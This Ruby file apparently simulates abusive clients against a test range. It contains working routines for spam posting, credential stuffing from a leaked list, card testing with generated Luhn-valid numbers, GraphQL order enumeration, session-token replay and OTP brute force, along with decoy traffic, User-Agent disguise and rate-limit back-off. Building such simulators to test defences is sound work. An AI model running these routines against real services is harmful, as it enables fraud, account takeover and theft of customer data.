# Abusive clients of the range in Ruby; the first argument says which. Threads, each with a connection of its own.
require_relative 'seat'

class Attack
  RUN = {
    'spam' => [25, 300], 'cashing-out' => [25, 220], 'card-testing' => [25, 300], 'graphql' => [20, 300],
    'hijacked-session' => [120, 700], 'otp' => [30, 400]
  }.freeze

  def initialize(name)
    @name = name
    @seat = Seat.new(*RUN.fetch(name))
    @width = @seat.pick([1, 1, 2, 4])
  end

  def run
    enter
    send(@name.tr('-', '_'))
    @seat.tell
  end

  private

  def enter
    @seat.call('get', '/') if @seat.form?('browser')
    @seat.token = @seat.key if @seat.form?('key')
    @seat.login if @seat.form?('account')
  end

  # The main thread deals; what is left when the time is over is taken and dropped.
  def each(things)
    queue = SizedQueue.new(@width)
    threads = Array.new(@width) { Thread.new { work(queue) { |thing| yield thing } } }
    things.each do |thing|
      break if @seat.over?

      queue << thing
    end
    @width.times { queue << nil }
    threads.each(&:join)
  end

  def work(queue)
    while (thing = queue.pop)
      next if @seat.over?

      yield thing
      decoy if @seat.form?('decoy')
      @seat.breathe
    end
  end

  def decoy
    search = "#{@seat.at('search')}?q=#{@seat.pick(%w[lamp mug tent])}"
    path = @seat.pick(['/', "#{@seat.at('products')}?limit=20", search, '/help'])
    @seat.call('get', path, as: '')
    @seat.breathe
  end

  # The same few sentences under everything that takes a text, as a review bomber or a link spammer leaves them.
  def spam
    @seat.login unless @seat.token
    _, products = @seat.insist('get', "#{@seat.at('products')}?limit=50")
    ids = @seat.ids(products)
    site = "http://#{@seat.pick(%w[best-pills casino-win crypto-x2 dating-now])}.example/#{@seat.hex(4)}"
    way = @seat.pick(%i[order order own])
    own = own_orders
    each(1..1000) do |n|
      note = "#{@seat.pick(['visit', 'great offer', 'FREE', 'loved it, see'])} #{site}?#{n}"
      if way == :order || own.empty?
        status, = @seat.call('post', @seat.at('orders'), { items: [{ productId: @seat.pick(ids), qty: 1 }], note: })
      else
        status, = @seat.call('patch', @seat.at('order', @seat.pick(own)), { note: })
      end
      @seat.login if status == 401 && !@seat.form?('key')
      @seat.pause(2) if status == 429
    end
  end

  def own_orders
    _, orders = @seat.call('get', "#{@seat.at('orders')}?limit=50")
    @seat.ids(orders)
  end

  # Accounts that are known to open: what each holds, then its balance of points, then on to the next.
  def cashing_out
    pairs = @seat.lines('RANGE_LEAKED')
    open = @seat.shuffle(pairs.each_with_index.select { |_, i| i % 33 == 7 }.map(&:first)).first(@seat.int(6, 18))
    each(open) do |pair|
      email, password = pair.split(':', 2)
      status, data = @seat.call('post', @seat.at('login'), { email:, password: }, as: '')
      next unless status == 200

      empty(data['token'])
    end
  end

  def empty(token)
    @seat.call('get', @seat.at('me'), as: token)
    _, list = @seat.call('get', "#{@seat.at('orders')}?limit=#{@seat.pick([20, 100])}", as: token)
    ids = @seat.ids(list)
    if @seat.chance(0.5)
      _, products = @seat.call('get', "#{@seat.at('products')}?limit=10", as: token)
      id = @seat.pick(products['items'] || [{}])['id']
      @seat.call('post', @seat.at('orders'), { items: [{ productId: id, qty: @seat.int(2, 9) }], note: 'gift' }, as: token)
    end
    ids.first(@seat.int(0, 5)).each { |id| @seat.call('get', @seat.at('order', id), as: token) }
    @seat.call('get', @seat.at('giftcard', @seat.hex(10).upcase), as: token) if @seat.chance(0.4)
  end

  # Numbers of one issuer, one small sum each, directly at the till.
  def card_testing
    stem = "#{@seat.pick([4, 5])}#{@seat.int(10_000, 99_999)}"
    numbers = Enumerator.new { |out| loop { out << luhn(stem + Array.new(9) { @seat.int(0, 9) }.join) } }
    each(numbers) do |card|
      expiry = format('%02d/%d', @seat.int(1, 12), @seat.int(26, 30))
      payment = { card:, expiry:, cvc: @seat.int(100, 999).to_s, amount: @seat.pick([1, 1, 2, 5]) }
      status, = @seat.call('post', @seat.at('payments'), payment)
      @seat.pause(@seat.real(1, 3)) if status == 429
    end
  end

  def luhn(body)
    sum = body.reverse.chars.each_with_index.sum { |char, i| (n = char.to_i * (i.even? ? 2 : 1)) > 9 ? n - 9 : n }
    "#{body}#{(10 - sum % 10) % 10}"
  end

  # What the schema tells, or what a list of names finds; then order after order by alias or by variable.
  def graphql
    @seat.login unless @seat.token || @seat.chance(0.3)
    @seat.call('post', @seat.at('graphql'), { query: '{ __schema { types { name fields { name } } } }' }) if @seat.chance(0.6)
    ids = @seat.shuffle(@seat.lines('RANGE_IDS')).first(3000)
    size = @seat.pick([1, 1, 5, 20, 60])
    each(ids.each_slice(size)) do |some|
      query = some.each_with_index.map { |id, i| "a#{i}: order(id: \"#{id}\") { id total status customer { name email } }" }.join(' ')
      status, = @seat.call('post', @seat.at('graphql'), { query: "query { #{query} }" })
      @seat.login if status == 401 && !@seat.form?('key')
      @seat.pause(1) if status == 429
    end
  end

  # A person's session until the turn; then the token works for somebody else.
  def hijacked_session
    turn = @seat.now + ENV.fetch('RANGE_TURN', '20').to_f
    app = { 'User-Agent' => @seat.pick(Seat::APPS + Seat::BROWSERS), 'Accept' => 'application/json' }
    @seat.disguise = app
    @seat.login
    use until @seat.now >= turn - 0.3 || @seat.over?
    @seat.pause(turn - @seat.now + @seat.real(0.1, 1))
    other = { 'User-Agent' => @seat.pick(['curl/8.5.0', 'Ruby', 'python-requests/2.31.0']) }
    @seat.disguise = other if @seat.chance(0.5)
    loot
  end

  def use
    list, item = @seat.pick([%w[orders order], %w[products product]])
    status, data = @seat.call('get', "#{@seat.at(list)}?limit=20")
    return @seat.login if status == 401

    (data['items'] || []).first(@seat.int(0, 3)).each do |one|
      @seat.pause(@seat.log(0.4, 3))
      @seat.call('get', @seat.at(item, one['id']))
    end
    @seat.pause(@seat.log(0.6, 4))
  end

  def loot
    url = @seat.chance(0.4) ? @seat.urls.last : @seat.url
    ids = @seat.lines('RANGE_IDS')
    from = @seat.int(0, ids.size - 1500)
    ids = ids[from, 1500]
    ids = @seat.shuffle(ids) unless @seat.number_ids? && @seat.chance(0.6)
    gap = @seat.log(0.02, 0.6)
    ids.each do |id|
      break if @seat.over?

      status, = @seat.call('get', @seat.at('order', id), url:)
      @seat.login if status == 401
      @seat.pause(gap)
    end
  end

  # Six digits, a few guesses for each of many phones.
  def otp
    tries = @seat.pick([3, 5, 6])
    each(1..2000) do
      phone = "+3467#{@seat.int(1_000_000, 9_999_999)}"
      @seat.call('post', @seat.at('otpSend'), { phone: })
      tries.times do
        break if @seat.over?

        @seat.breathe
        status, = @seat.call('post', @seat.at('otpVerify'), { phone:, code: format('%06d', @seat.int(0, 999_999)) })
        next unless status == 429

        @seat.pause(@seat.real(0.5, 4))
        break
      end
    end
  end
end

Attack.new(ARGV.fetch(0)).run
